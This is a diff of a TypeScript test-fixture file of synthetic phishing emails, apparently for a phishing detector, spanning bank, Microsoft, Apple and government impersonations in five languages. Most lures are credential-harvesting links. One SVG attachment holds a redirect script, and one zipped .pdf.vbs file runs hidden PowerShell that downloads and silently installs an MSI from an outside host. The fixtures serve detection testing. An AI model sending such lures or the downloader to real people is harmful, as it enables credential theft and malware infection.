@@ -63,7 +63,13 @@ export const SIXTH_CASES: readonly PhishingCase[] = [
       auth: THROWAWAY,
       body: document([
         { heading: 'Mailbox storage almost full' },
-        { rows: [['Account', 'd.keller@harwoodlogistics.com'], ['Used', '49.1 GB of 50 GB'], ['Held messages', '27']] },
+        {
+          rows: [
+            ['Account', 'd.keller@harwoodlogistics.com'],
+            ['Used', '49.1 GB of 50 GB'],
+            ['Held messages', '27'],
+          ],
+        },
         'Incoming messages are being held on the server because your mailbox has reached its limit. Release them and upgrade your storage at no cost before they are deleted in 24 hours.',
         { button: 'Release held messages', href: 'https://mailstore-upgrade.kelvin-r8.workers.dev/?u=d.keller@harwoodlogistics.com' },
         { small: 'harwoodlogistics.com Email Administration. This is an automated message, do not reply.' },
@@ -88,7 +94,10 @@ export const SIXTH_CASES: readonly PhishingCase[] = [
       body: document([
         'Hello m.ortega,',
         'The password for your account m.ortega@pinecrest-builders.com expires today. To continue using the same password and avoid losing access to email, Teams and OneDrive, confirm it below.',
-        { button: 'Keep Current Password', href: 'https://pub-7f3a1c9e2b4d4e8fa0c1d2e3f4a5b6c7.r2.dev/sso/index.html#bS5vcnRlZ2FAcGluZWNyZXN0LWJ1aWxkZXJzLmNvbQ==' },
+        {
+          button: 'Keep Current Password',
+          href: 'https://pub-7f3a1c9e2b4d4e8fa0c1d2e3f4a5b6c7.r2.dev/sso/index.html#bS5vcnRlZ2FAcGluZWNyZXN0LWJ1aWxkZXJzLmNvbQ==',
+        },
         { small: 'IT Service Desk. Please do not ignore this message.' },
       ]),
     }),
@@ -139,7 +148,10 @@ export const SIXTH_CASES: readonly PhishingCase[] = [
         'Billing Department (gsquad.billing.desk@gmail.com) has invited you to view the following document:',
         'INVOICE GS-88412 Total Protection renewed $399.99 call +1 (808) 555-0142',
         { button: 'Open', href: 'https://docs.google.com/document/d/1xQ8vT2mN4pK7wR9yZ3bC5dF8hJ0lL6nPqS4tU2vW/edit?usp=sharing_eil&ts=67aa4b91' },
-        { small: 'Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA. You have received this email because gsquad.billing.desk@gmail.com shared a document with you from Google Docs.' },
+        {
+          small:
+            'Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA. You have received this email because gsquad.billing.desk@gmail.com shared a document with you from Google Docs.',
+        },
       ]),
     }),
   },
@@ -161,10 +173,21 @@ export const SIXTH_CASES: readonly PhishingCase[] = [
       auth: THROWAWAY,
       body: multipart('mixed', [
         document([
-          { rows: [['Caller', '+1 (470) 555-0193'], ['Received', 'Friday, February 21, 2025 6:29 AM'], ['Length', '00:47'], ['Mailbox', 'r.chandler@meridianhealthgroup.org']] },
+          {
+            rows: [
+              ['Caller', '+1 (470) 555-0193'],
+              ['Received', 'Friday, February 21, 2025 6:29 AM'],
+              ['Length', '00:47'],
+              ['Mailbox', 'r.chandler@meridianhealthgroup.org'],
+            ],
+          },
           'You have a new voice message. Open the attached audio file to listen.',
         ]),
-        attachment('VM_Play_0047.htm', 'text/html', redirectPage('Voice Message', 'Loading voice message…', 'https://vm-audio-playback.click/play/', 'r.chandler@meridianhealthgroup.org')),
+        attachment(
+          'VM_Play_0047.htm',
+          'text/html',
+          redirectPage('Voice Message', 'Loading voice message…', 'https://vm-audio-playback.click/play/', 'r.chandler@meridianhealthgroup.org'),
+        ),
       ]),
     }),
   },
@@ -184,7 +207,14 @@ export const SIXTH_CASES: readonly PhishingCase[] = [
       relay: 'mail.greenfieldroofing.co.uk [198.51.100.140]',
       body: document([
         { heading: 'You have received a 3 page fax' },
-        { rows: [['Fax ID', 'ATL-4488-21-KQ'], ['Pages', '3'], ['Received', '08/04/2025 09:11'], ['Sender', '+44 20 7946 0321']] },
+        {
+          rows: [
+            ['Fax ID', 'ATL-4488-21-KQ'],
+            ['Pages', '3'],
+            ['Received', '08/04/2025 09:11'],
+            ['Sender', '+44 20 7946 0321'],
+          ],
+        },
         'Click below to view your fax. You will be asked to sign in with your email account to verify you are the intended recipient.',
         { button: 'View Fax Document', href: 'https://www.greenfieldroofing.co.uk/wp-content/uploads/2025/04/efax/index.php?id=aGVsZW4uYnVycm93cw' },
         { small: 'Powered by eFax® — j2 Global. Do not reply to this message.' },
@@ -235,7 +265,13 @@ export const SIXTH_CASES: readonly PhishingCase[] = [
       headers: sendgridHeaders('Vc8nT2mX4pQ1wK7yZ3bC5dF9hJ0lL6nPa'),
       body: document([
         { heading: 'Suspicious charge detected' },
-        { rows: [['Merchant', 'BESTBUY.COM 00412'], ['Amount', '$1,249.99'], ['Card', 'Platinum Card® ending 1008']] },
+        {
+          rows: [
+            ['Merchant', 'BESTBUY.COM 00412'],
+            ['Amount', '$1,249.99'],
+            ['Card', 'Platinum Card® ending 1008'],
+          ],
+        },
         'We have temporarily suspended your Card to protect you from fraud. Please confirm whether you made this purchase and verify your account details to reactivate your Card.',
         { button: 'Review Transaction', href: 'https://u40118822.ct.sendgrid.net/ls/click?upn=u001.pQ8x-2BvN4mT7wR1yZ3bC5dF8hJ0lL6nP-2Bk9' },
         { small: 'American Express. Please do not reply to this email.' },
@@ -350,11 +386,20 @@ export const SIXTH_CASES: readonly PhishingCase[] = [
       messageId: 'CAK4pN2xV8mR1tK7wQ3bL9cF5dH6sY0a_qT8pX@mail.gmail.com',
       ...GMAIL,
       body: multipart('mixed', [
-        gmailBody('Dear Customer,\n\nThank you for your purchase of Final Cut Pro (1 year) for $299.99, charged to your card on file. Your invoice is attached.\n\nIf you did not make this purchase or wish to cancel and get a refund, call Apple Billing Support at +1 (844) 555-0127 within 24 hours.\n\nApple Billing Team'),
-        attachment('Invoice_MT44821QX.pdf', 'application/pdf', textPdf([
-          'Apple Store Invoice', 'Order No. MT44821QX', 'Final Cut Pro - 1 year subscription    $299.99',
-          'Payment: Visa ending 4417', 'Not you? Cancel and refund: +1 (844) 555-0127 (24/7)',
-        ])),
+        gmailBody(
+          'Dear Customer,\n\nThank you for your purchase of Final Cut Pro (1 year) for $299.99, charged to your card on file. Your invoice is attached.\n\nIf you did not make this purchase or wish to cancel and get a refund, call Apple Billing Support at +1 (844) 555-0127 within 24 hours.\n\nApple Billing Team',
+        ),
+        attachment(
+          'Invoice_MT44821QX.pdf',
+          'application/pdf',
+          textPdf([
+            'Apple Store Invoice',
+            'Order No. MT44821QX',
+            'Final Cut Pro - 1 year subscription    $299.99',
+            'Payment: Visa ending 4417',
+            'Not you? Cancel and refund: +1 (844) 555-0127 (24/7)',
+          ]),
+        ),
       ]),
     }),
   },
@@ -448,7 +493,11 @@ export const SIXTH_CASES: readonly PhishingCase[] = [
           'Open the attached document and scan the QR code with your phone camera to complete the enrollment.',
           { small: 'Microsoft 365 Security Team' },
         ]),
-        attachment('MFA_Enrollment_l.haddad.pdf', 'application/pdf', qrPdf('https://m365-mfa-enroll.online/?u=l.haddad@crestviewpartners.com', ['Multi-Factor Authentication Enrollment', 'Scan with your phone camera'])),
+        attachment(
+          'MFA_Enrollment_l.haddad.pdf',
+          'application/pdf',
+          qrPdf('https://m365-mfa-enroll.online/?u=l.haddad@crestviewpartners.com', ['Multi-Factor Authentication Enrollment', 'Scan with your phone camera']),
+        ),
       ]),
     }),
   },
@@ -471,7 +520,9 @@ export const SIXTH_CASES: readonly PhishingCase[] = [
         'References: <MW4PR17MB5612A9B8C7D6E5F4A3B2C1D0E9F8A7B6@MW4PR17MB5612.namprd17.prod.outlook.com>',
         'Thread-Topic: PO 44821 - pallet racking delivery',
       ],
-      body: plain('Hi,\n\nSorry for the delay. Please find the revised invoice for PO 44821 with the corrected freight charge here:\n\nhttps://1drv-ms.fileportal-secure.com/x/PO44821-revised\n\nYou will need to sign in with your work email to view it. Let me know once processed.\n\nThanks,\nTom Becker\nNorthgate Supply Co.\n\n-----Original Message-----\nFrom: Accounts Payable <ap@harwoodlogistics.com>\nSent: Monday, June 30, 2025 3:12 PM\nTo: Tom Becker <tbecker@northgatesupply.com>\nSubject: PO 44821 - pallet racking delivery\n\nHi Tom, can you send the final invoice for PO 44821? The freight line looks wrong.\n\nThanks, Accounts Payable'),
+      body: plain(
+        'Hi,\n\nSorry for the delay. Please find the revised invoice for PO 44821 with the corrected freight charge here:\n\nhttps://1drv-ms.fileportal-secure.com/x/PO44821-revised\n\nYou will need to sign in with your work email to view it. Let me know once processed.\n\nThanks,\nTom Becker\nNorthgate Supply Co.\n\n-----Original Message-----\nFrom: Accounts Payable <ap@harwoodlogistics.com>\nSent: Monday, June 30, 2025 3:12 PM\nTo: Tom Becker <tbecker@northgatesupply.com>\nSubject: PO 44821 - pallet racking delivery\n\nHi Tom, can you send the final invoice for PO 44821? The freight line looks wrong.\n\nThanks, Accounts Payable',
+      ),
     }),
   },
   {
@@ -490,10 +541,14 @@ export const SIXTH_CASES: readonly PhishingCase[] = [
       relay: 'mail.evergreenlandscapes-nc.com [198.51.100.37]',
       body: multipart('mixed', [
         plain('Hello,\n\nPlease see the attached remittance advice for the ACH payment sent today.\n\nRegards,\nAccounts'),
-        attachment('Remittance_Advice_REM-20931.svg', 'image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200"><text x="20" y="40" font-family="Arial">Loading remittance advice…</text><script><![CDATA[
+        attachment(
+          'Remittance_Advice_REM-20931.svg',
+          'image/svg+xml',
+          `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200"><text x="20" y="40" font-family="Arial">Loading remittance advice…</text><script><![CDATA[
 var d = "YXBAbWFybG93ZnVybml0dXJlLmNvbQ==";
 window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
-]]></script></svg>`),
+]]></script></svg>`,
+        ),
       ]),
     }),
   },
@@ -513,13 +568,16 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       dkim: ['sparkasse-pushtan-info.de:mail'],
       relay: 'mail.sparkasse-pushtan-info.de [203.0.113.61]',
       auth: THROWAWAY,
-      body: document([
-        { heading: 'Sehr geehrte Kundin, sehr geehrter Kunde,' },
-        'aufgrund der neuen EU-Richtlinie zur Zahlungssicherheit muss Ihr pushTAN-Verfahren bis zum 18.02.2025 neu registriert werden. Andernfalls wird Ihr Online-Banking-Zugang aus Sicherheitsgründen vorübergehend gesperrt.',
-        'Die Aktualisierung dauert nur wenige Minuten.',
-        { button: 'Jetzt aktualisieren', href: 'https://sparkasse-pushtan-aktualisierung.com/login' },
-        { small: 'Mit freundlichen Grüßen, Ihre Sparkasse. Diese E-Mail wurde automatisch erstellt.' },
-      ], { lang: 'de' }),
+      body: document(
+        [
+          { heading: 'Sehr geehrte Kundin, sehr geehrter Kunde,' },
+          'aufgrund der neuen EU-Richtlinie zur Zahlungssicherheit muss Ihr pushTAN-Verfahren bis zum 18.02.2025 neu registriert werden. Andernfalls wird Ihr Online-Banking-Zugang aus Sicherheitsgründen vorübergehend gesperrt.',
+          'Die Aktualisierung dauert nur wenige Minuten.',
+          { button: 'Jetzt aktualisieren', href: 'https://sparkasse-pushtan-aktualisierung.com/login' },
+          { small: 'Mit freundlichen Grüßen, Ihre Sparkasse. Diese E-Mail wurde automatisch erstellt.' },
+        ],
+        { lang: 'de' },
+      ),
     }),
   },
   {
@@ -536,12 +594,15 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       messageId: '3c4d5e6f7a8b4c9d@schreinerei-hofmann.de',
       dkim: ['schreinerei-hofmann.de:default'],
       relay: 'mail.schreinerei-hofmann.de [198.51.100.88]',
-      body: document([
-        'Hallo s.brandt,',
-        'das Kennwort für Ihr Konto s.brandt@brandt-elektrotechnik.de läuft heute ab. Um Ihr aktuelles Kennwort beizubehalten und den Zugriff auf Outlook und Teams nicht zu verlieren, bestätigen Sie es bitte hier:',
-        { button: 'Aktuelles Kennwort beibehalten', href: 'https://kennwort-bestaetigen-365.netlify.app/?e=s.brandt@brandt-elektrotechnik.de' },
-        { small: 'Microsoft 365 Administrator' },
-      ], { lang: 'de' }),
+      body: document(
+        [
+          'Hallo s.brandt,',
+          'das Kennwort für Ihr Konto s.brandt@brandt-elektrotechnik.de läuft heute ab. Um Ihr aktuelles Kennwort beizubehalten und den Zugriff auf Outlook und Teams nicht zu verlieren, bestätigen Sie es bitte hier:',
+          { button: 'Aktuelles Kennwort beibehalten', href: 'https://kennwort-bestaetigen-365.netlify.app/?e=s.brandt@brandt-elektrotechnik.de' },
+          { small: 'Microsoft 365 Administrator' },
+        ],
+        { lang: 'de' },
+      ),
     }),
   },
   {
@@ -559,13 +620,16 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       dkim: ['ameli-dossier-info.fr:default'],
       relay: 'smtp.ameli-dossier-info.fr [203.0.113.91]',
       auth: THROWAWAY,
-      body: document([
-        { heading: 'Votre remboursement est en attente' },
-        'Madame, Monsieur, après le dernier calcul de vos droits, vous pouvez bénéficier d\'un remboursement de 126,50 €. Votre carte Vitale arrive à expiration et vos coordonnées bancaires doivent être mises à jour pour recevoir le versement.',
-        'Sans action de votre part sous 72 heures, le remboursement sera annulé.',
-        { button: 'Accéder à mon dossier', href: 'https://ameli-dossier-maj.com/remboursement/?id=FR88412' },
-        { small: 'L\'Assurance Maladie. Ceci est un message automatique.' },
-      ], { lang: 'fr' }),
+      body: document(
+        [
+          { heading: 'Votre remboursement est en attente' },
+          "Madame, Monsieur, après le dernier calcul de vos droits, vous pouvez bénéficier d'un remboursement de 126,50 €. Votre carte Vitale arrive à expiration et vos coordonnées bancaires doivent être mises à jour pour recevoir le versement.",
+          'Sans action de votre part sous 72 heures, le remboursement sera annulé.',
+          { button: 'Accéder à mon dossier', href: 'https://ameli-dossier-maj.com/remboursement/?id=FR88412' },
+          { small: "L'Assurance Maladie. Ceci est un message automatique." },
+        ],
+        { lang: 'fr' },
+      ),
     }),
   },
   {
@@ -577,14 +641,16 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
     raw: mail({
       from: 'Crédit Agricole <securite@ca-securipass-info.com>',
       to: 'j.lefebvre@free.fr',
-      subject: 'Votre dispositif Sécuripass expire aujourd\'hui',
+      subject: "Votre dispositif Sécuripass expire aujourd'hui",
       date: 'Fri, 25 Apr 2025 18:03:20 +0200',
       messageId: '20250425160320.9b1f@ca-securipass-info.com',
       dkim: ['ca-securipass-info.com:k1'],
       relay: 'mta.ca-securipass-info.com [203.0.113.103]',
       auth: THROWAWAY,
       body: multipart('related', [
-        html('<html><body style="margin:0"><center><a href="https://ca-securipass-renouvellement.com/authentification"><img src="cid:securipass@ca" width="600" height="640" border="0" alt="Credit Agricole"></a></center></body></html>'),
+        html(
+          '<html><body style="margin:0"><center><a href="https://ca-securipass-renouvellement.com/authentification"><img src="cid:securipass@ca" width="600" height="640" border="0" alt="Credit Agricole"></a></center></body></html>',
+        ),
         inlineImage('securipass@ca', 'securipass.jpg', JPEG),
       ]),
     }),
@@ -604,12 +670,15 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       dkim: ['ing-betaalpas-vervangen.nl:default'],
       relay: 'mail.ing-betaalpas-vervangen.nl [203.0.113.58]',
       auth: THROWAWAY,
-      body: document([
-        { heading: 'Beste klant,' },
-        'Uw huidige betaalpas verloopt op 31 mei 2025. Om te voorkomen dat u tijdelijk niet kunt pinnen of betalen, vragen wij u binnen 5 dagen een nieuwe pas aan en uw gegevens te bevestigen.',
-        { button: 'Nieuwe betaalpas aanvragen', href: 'https://ing-paspoort-vervanging.com/aanvragen' },
-        { small: 'Met vriendelijke groet, ING Klantenservice.' },
-      ], { lang: 'nl' }),
+      body: document(
+        [
+          { heading: 'Beste klant,' },
+          'Uw huidige betaalpas verloopt op 31 mei 2025. Om te voorkomen dat u tijdelijk niet kunt pinnen of betalen, vragen wij u binnen 5 dagen een nieuwe pas aan en uw gegevens te bevestigen.',
+          { button: 'Nieuwe betaalpas aanvragen', href: 'https://ing-paspoort-vervanging.com/aanvragen' },
+          { small: 'Met vriendelijke groet, ING Klantenservice.' },
+        ],
+        { lang: 'nl' },
+      ),
     }),
   },
   {
@@ -625,12 +694,15 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       date: 'Wed, 4 Jun 2025 16:27:09 +0000',
       messageId: 'DB9PR02MB7011E2F3A4B5C6D7E8F9A0B1C2D3E4F5@DB9PR02MB7011.eurprd02.prod.outlook.com',
       ...OUTLOOK,
-      body: document([
-        'Geachte heer/mevrouw,',
-        'Uw DigiD is al meer dan 12 maanden niet gebruikt. Volgens de nieuwe richtlijnen wordt uw DigiD binnen 48 uur gedeactiveerd als u uw gegevens niet bevestigt.',
-        { button: 'DigiD behouden', href: 'https://digid-verlengen.info/inloggen' },
-        { small: 'Logius, Ministerie van Binnenlandse Zaken en Koninkrijksrelaties' },
-      ], { lang: 'nl' }),
+      body: document(
+        [
+          'Geachte heer/mevrouw,',
+          'Uw DigiD is al meer dan 12 maanden niet gebruikt. Volgens de nieuwe richtlijnen wordt uw DigiD binnen 48 uur gedeactiveerd als u uw gegevens niet bevestigt.',
+          { button: 'DigiD behouden', href: 'https://digid-verlengen.info/inloggen' },
+          { small: 'Logius, Ministerie van Binnenlandse Zaken en Koninkrijksrelaties' },
+        ],
+        { lang: 'nl' },
+      ),
     }),
   },
   // ================================================================ pt-BR
@@ -648,13 +720,21 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       dkim: ['receita-regularizacao.com:default'],
       relay: 'mail.receita-regularizacao.com [203.0.113.14]',
       auth: THROWAWAY,
-      body: document([
-        { heading: 'Ministério da Fazenda — Receita Federal' },
-        'Prezado(a) contribuinte, identificamos divergências na sua Declaração de Imposto de Renda 2025. Seu CPF será suspenso caso a situação não seja regularizada em até 48 horas.',
-        { rows: [['Situação', 'PENDENTE DE REGULARIZAÇÃO'], ['Protocolo', 'IRPF-2025-88412']] },
-        { button: 'Regularizar meu CPF', href: 'https://regularize-cpf-receita.com/consulta' },
-        { small: 'Receita Federal do Brasil. Não responda este e-mail.' },
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          { heading: 'Ministério da Fazenda — Receita Federal' },
+          'Prezado(a) contribuinte, identificamos divergências na sua Declaração de Imposto de Renda 2025. Seu CPF será suspenso caso a situação não seja regularizada em até 48 horas.',
+          {
+            rows: [
+              ['Situação', 'PENDENTE DE REGULARIZAÇÃO'],
+              ['Protocolo', 'IRPF-2025-88412'],
+            ],
+          },
+          { button: 'Regularizar meu CPF', href: 'https://regularize-cpf-receita.com/consulta' },
+          { small: 'Receita Federal do Brasil. Não responda este e-mail.' },
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -671,13 +751,22 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       dkim: ['detran-multas-online.com:default'],
       relay: 'srv1.detran-multas-online.com [203.0.113.33]',
       auth: THROWAWAY,
-      body: document([
-        { heading: 'Notificação de Autuação' },
-        { rows: [['Infração', 'Transitar em velocidade superior à máxima permitida'], ['Valor', 'R$ 195,23'], ['Com desconto', 'R$ 117,14 (pagamento até hoje)']] },
-        'Evite a suspensão da sua CNH e a inclusão na dívida ativa. Pague com 40% de desconto via PIX até o fim do dia.',
-        { button: 'Consultar e pagar multa', href: 'https://detran-sp-multas.online/pagar?placa=FNL8H42' },
-        { small: 'Departamento Estadual de Trânsito de São Paulo' },
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          { heading: 'Notificação de Autuação' },
+          {
+            rows: [
+              ['Infração', 'Transitar em velocidade superior à máxima permitida'],
+              ['Valor', 'R$ 195,23'],
+              ['Com desconto', 'R$ 117,14 (pagamento até hoje)'],
+            ],
+          },
+          'Evite a suspensão da sua CNH e a inclusão na dívida ativa. Pague com 40% de desconto via PIX até o fim do dia.',
+          { button: 'Consultar e pagar multa', href: 'https://detran-sp-multas.online/pagar?placa=FNL8H42' },
+          { small: 'Departamento Estadual de Trânsito de São Paulo' },
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -696,13 +785,16 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       relay: 'o5.ptr8812.serasa-acordo-facil.com [149.72.33.5]',
       auth: THROWAWAY,
       headers: sendgridHeaders('Rk2vN8mT4pX1wQ7yZ3bC5dF9hJ0lL6nPs'),
-      body: document([
-        { heading: 'Feirão Limpa Nome: 92% de desconto' },
-        'Olá João, encontramos uma dívida em seu CPF no valor de R$ 3.482,17. Hoje você pode quitar por apenas R$ 278,57 à vista no PIX e ter o nome limpo em até 24 horas.',
-        'Oferta válida somente até as 23h59 de hoje.',
-        { button: 'Ver acordo e pagar no PIX', href: 'https://u38812204.ct.sendgrid.net/ls/click?upn=u001.Zx8-2BpQ4mT7wR1yZ3bC5dF8hJ0lL6nP-2Bs3' },
-        { small: 'Serasa S.A. — Av. das Nações Unidas, São Paulo' },
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          { heading: 'Feirão Limpa Nome: 92% de desconto' },
+          'Olá João, encontramos uma dívida em seu CPF no valor de R$ 3.482,17. Hoje você pode quitar por apenas R$ 278,57 à vista no PIX e ter o nome limpo em até 24 horas.',
+          'Oferta válida somente até as 23h59 de hoje.',
+          { button: 'Ver acordo e pagar no PIX', href: 'https://u38812204.ct.sendgrid.net/ls/click?upn=u001.Zx8-2BpQ4mT7wR1yZ3bC5dF8hJ0lL6nP-2Bs3' },
+          { small: 'Serasa S.A. — Av. das Nações Unidas, São Paulo' },
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -719,13 +811,22 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       dkim: ['correios-taxacao.com:default'],
       relay: 'mail.correios-taxacao.com [203.0.113.77]',
       auth: THROWAWAY,
-      body: document([
-        { heading: 'Objeto aguardando pagamento' },
-        { rows: [['Objeto', 'NL884127335BR'], ['Origem', 'China'], ['Imposto de importação', 'R$ 47,90']] },
-        'Sua encomenda está retida na unidade de fiscalização aduaneira. Efetue o pagamento em até 3 dias úteis ou o objeto será devolvido ao remetente.',
-        { button: 'Pagar taxa via PIX', href: 'https://correios-taxacao.com/pagamento/NL884127335BR' },
-        { small: 'Correios. Rastreamento de objetos.' },
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          { heading: 'Objeto aguardando pagamento' },
+          {
+            rows: [
+              ['Objeto', 'NL884127335BR'],
+              ['Origem', 'China'],
+              ['Imposto de importação', 'R$ 47,90'],
+            ],
+          },
+          'Sua encomenda está retida na unidade de fiscalização aduaneira. Efetue o pagamento em até 3 dias úteis ou o objeto será devolvido ao remetente.',
+          { button: 'Pagar taxa via PIX', href: 'https://correios-taxacao.com/pagamento/NL884127335BR' },
+          { small: 'Correios. Rastreamento de objetos.' },
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -742,10 +843,17 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       messageId: 'CP6P284MB2211A1B2C3D4E5F6A7B8C9D0E1F2A3B4@CP6P284MB2211.BRAP284.PROD.OUTLOOK.COM',
       ...OUTLOOK,
       body: multipart('mixed', [
-        plain('Boa tarde,\n\nSegue em anexo o comprovante do PIX referente ao pagamento do pedido.\n\nQualquer dúvida estamos à disposição.\n\nAtt,\nSetor Financeiro'),
-        attachment('Comprovante_PIX_1850.zip', 'application/zip', zip({
-          'Comprovante_PIX_1850.pdf.vbs': 'Set s = CreateObject("WScript.Shell")\r\ns.Run "powershell -w hidden -c iwr https://cdn-comprovantes.top/a.msi -OutFile $env:TEMP\\a.msi; msiexec /i $env:TEMP\\a.msi /qn", 0\r\n',
-        })),
+        plain(
+          'Boa tarde,\n\nSegue em anexo o comprovante do PIX referente ao pagamento do pedido.\n\nQualquer dúvida estamos à disposição.\n\nAtt,\nSetor Financeiro',
+        ),
+        attachment(
+          'Comprovante_PIX_1850.zip',
+          'application/zip',
+          zip({
+            'Comprovante_PIX_1850.pdf.vbs':
+              'Set s = CreateObject("WScript.Shell")\r\ns.Run "powershell -w hidden -c iwr https://cdn-comprovantes.top/a.msi -OutFile $env:TEMP\\a.msi; msiexec /i $env:TEMP\\a.msi /qn", 0\r\n',
+          }),
+        ),
       ]),
     }),
   },
@@ -755,7 +863,7 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
     lang: 'pt-BR',
     lure: 'malware',
     expect: ['malware', 'phishing'],
-      todo: 'clean/none: auth_results_missing; the pt-BR \'NF-e emitida, baixe o DANFE e XML\' download lure (download.php on a throw-away domain) is not recognised',
+    todo: "clean/none: auth_results_missing; the pt-BR 'NF-e emitida, baixe o DANFE e XML' download lure (download.php on a throw-away domain) is not recognised",
     raw: mail({
       from: 'NF-e Emissor <nfe@emissor-notafiscal.net>',
       to: 'compras@metalurgicavitoria.com.br',
@@ -765,12 +873,15 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       dkim: ['emissor-notafiscal.net:default'],
       relay: 'smtp.emissor-notafiscal.net [203.0.113.45]',
       auth: THROWAWAY,
-      body: document([
-        'Prezado cliente,',
-        'Informamos que a Nota Fiscal Eletrônica nº 000.184.552 foi emitida em seu CNPJ. O DANFE e o arquivo XML estão disponíveis para download pelo link abaixo.',
-        { button: 'Baixar DANFE e XML', href: 'https://emissor-notafiscal.net/danfe/download.php?nf=184552' },
-        { small: 'Documento emitido por ME ou EPP optante pelo Simples Nacional.' },
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          'Prezado cliente,',
+          'Informamos que a Nota Fiscal Eletrônica nº 000.184.552 foi emitida em seu CNPJ. O DANFE e o arquivo XML estão disponíveis para download pelo link abaixo.',
+          { button: 'Baixar DANFE e XML', href: 'https://emissor-notafiscal.net/danfe/download.php?nf=184552' },
+          { small: 'Documento emitido por ME ou EPP optante pelo Simples Nacional.' },
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -787,13 +898,22 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       returnPath: 'www-data@vps-19933.cloudhost-br.net',
       relay: 'vps-19933.cloudhost-br.net [198.51.100.199]',
       auth: SPOOFED,
-      body: document([
-        { heading: 'Compra aprovada' },
-        { rows: [['Estabelecimento', 'MAGAZINE LUIZA *ONLINE'], ['Valor', 'R$ 2.349,90'], ['Cartão', 'final 7731']] },
-        'Se você não reconhece esta compra, conteste agora para bloquear o cartão e receber o estorno. Após 2 horas a contestação não será mais possível.',
-        { button: 'Não reconheço esta compra', href: 'https://nubank-contestacao.com/app/contestar' },
-        { small: 'Nu Pagamentos S.A. — Instituição de Pagamento.' },
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          { heading: 'Compra aprovada' },
+          {
+            rows: [
+              ['Estabelecimento', 'MAGAZINE LUIZA *ONLINE'],
+              ['Valor', 'R$ 2.349,90'],
+              ['Cartão', 'final 7731'],
+            ],
+          },
+          'Se você não reconhece esta compra, conteste agora para bloquear o cartão e receber o estorno. Após 2 horas a contestação não será mais possível.',
+          { button: 'Não reconheço esta compra', href: 'https://nubank-contestacao.com/app/contestar' },
+          { small: 'Nu Pagamentos S.A. — Instituição de Pagamento.' },
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -812,7 +932,9 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       relay: 'mta1.itau-token-seguranca.com [203.0.113.171]',
       auth: THROWAWAY,
       body: multipart('related', [
-        html('<html><body style="margin:0"><center><a href="https://itau-reativacao-itoken.com/acesso"><img src="cid:itoken@itau" width="600" height="700" border="0" alt="Itau"></a></center></body></html>'),
+        html(
+          '<html><body style="margin:0"><center><a href="https://itau-reativacao-itoken.com/acesso"><img src="cid:itoken@itau" width="600" height="700" border="0" alt="Itau"></a></center></body></html>',
+        ),
         inlineImage('itoken@itau', 'itoken.jpg', JPEG),
       ]),
     }),
@@ -831,12 +953,15 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       dkim: ['caixa-beneficios-saque.com:default'],
       relay: 'mail.caixa-beneficios-saque.com [203.0.113.208]',
       auth: THROWAWAY,
-      body: document([
-        { heading: 'Você tem valores disponíveis para saque' },
-        'Olá, consta em seu CPF um saldo de FGTS de R$ 1.412,00 disponível para saque imediato. Para receber na sua conta, confirme seus dados cadastrais e bancários até 30/08.',
-        { button: 'Confirmar dados e sacar', href: 'https://caixa-beneficios-saque.com/fgts/consulta' },
-        { small: 'CAIXA Econômica Federal' },
-      ], { lang: 'pt-BR' }),
+      body: document(
+        [
+          { heading: 'Você tem valores disponíveis para saque' },
+          'Olá, consta em seu CPF um saldo de FGTS de R$ 1.412,00 disponível para saque imediato. Para receber na sua conta, confirme seus dados cadastrais e bancários até 30/08.',
+          { button: 'Confirmar dados e sacar', href: 'https://caixa-beneficios-saque.com/fgts/consulta' },
+          { small: 'CAIXA Econômica Federal' },
+        ],
+        { lang: 'pt-BR' },
+      ),
     }),
   },
   {
@@ -855,12 +980,24 @@ window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
       relay: 'mail.tjsp-intimacoes.com [203.0.113.119]',
       auth: THROWAWAY,
       body: multipart('mixed', [
-        document([
-          'Fica Vossa Senhoria INTIMADO(A) a comparecer à audiência referente ao processo em epígrafe. O documento da intimação segue em anexo.',
-          'O não comparecimento poderá acarretar revelia e demais sanções previstas em lei.',
-          { small: 'Poder Judiciário — Tribunal de Justiça do Estado de São Paulo' },
-        ], { lang: 'pt-BR' }),
